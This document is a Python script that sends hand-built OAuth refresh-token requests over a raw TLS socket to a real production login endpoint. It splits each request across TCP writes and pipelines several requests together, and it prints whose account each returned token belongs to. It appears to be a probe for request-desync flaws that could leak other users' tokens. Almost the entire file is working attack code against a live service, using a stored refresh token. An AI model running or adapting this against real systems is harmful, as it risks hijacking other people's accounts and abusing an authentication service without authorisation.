"""login_pieces.py COUNT: COUNT requests for tokens whose bytes come in two records, split at each place in turn, and one with
two more behind it in the same record. It prints whose tokens they got, and the statuses of the last ones.
"""
import json
import re
import socket
import ssl
import sys

HOST = "platform.claude.com"
context = ssl.create_default_context()


def connect(host):
    return context.wrap_socket(socket.create_connection((host, 443), timeout=20), server_hostname=host)


def request(body):
    return (f"POST /v1/oauth/token HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n\r\n{body}").encode()


def receive(line):
    got = line.recv(65536)
    if not got:
        raise OSError("the end")
    return got


def read_answer(line, got):
    """The body of the next answer in GOT and what comes, and what is behind it."""
    while b"\r\n\r\n" not in got:
        got += receive(line)
    head, rest = got.split(b"\r\n\r\n", 1)
    length = int(re.search(rb"Content-Length: (\d+)", head)[1])
    while len(rest) < length:
        rest += receive(line)
    return head.split()[1].decode(), rest[:length], rest[length:]


def renew(token):
    return request(json.dumps({"grant_type": "refresh_token", "refresh_token": token, "scope": "user:inference"}))


with open("/tmp/got", encoding="ascii") as file:
    token = json.load(file)["refresh_token"]
line = connect(HOST)
whole = renew(token)
count = int(sys.argv[1])
for part in range(count):
    at = 1 + part * (len(whole) - 2) // (count - 1)
    whole = renew(token)
    line.sendall(whole[:at])
    line.sendall(whole[at:])
    status, body, rest = read_answer(line, b"")
    assert status == "200" and not rest, (status, body)
    got = json.loads(body)
    print(got["account"]["email_address"].split("@")[0])
    token = got["refresh_token"]
page = f"GET /who HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
line.sendall(renew(token) + renew(token) + page)
first, body, rest = read_answer(line, b"")
second = ""
try:
    second, other, rest = read_answer(line, rest)
    assert json.loads(other)["refresh_token"] == json.loads(body)["refresh_token"]
    third, _, rest = read_answer(line, rest)
except (OSError, IndexError, TypeError, ValueError):
    third = "-"
print(first, second, third)
